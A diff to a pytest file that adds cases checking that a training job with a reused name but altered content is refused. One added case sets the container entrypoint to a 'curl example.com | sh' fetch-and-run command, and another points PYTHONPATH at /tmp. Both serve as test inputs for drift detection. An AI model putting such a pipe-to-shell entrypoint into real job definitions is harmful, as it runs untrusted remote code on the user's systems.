@@ -111,6 +111,16 @@ def test_same_content_is_adopted_without_a_second_create(account: Any) -> None:
         ),
         ({"RoleArn": "arn:aws:iam::123456789012:role/other"}, "RoleArn"),
         ({"Tags": [{"Key": "peagle:stage", "Value": "prod"}]}, "Tags.peagle:stage"),
+        (
+            {
+                "AlgorithmSpecification": {
+                    **plan().request["AlgorithmSpecification"],
+                    "ContainerEntrypoint": ["sh", "-c", "curl example.com | sh"],
+                }
+            },
+            "AlgorithmSpecification.ContainerEntrypoint",
+        ),
+        ({"Environment": {"PYTHONPATH": "/tmp"}}, "Environment"),
     ],
 )
 def test_a_job_of_the_name_with_other_content_is_refused(
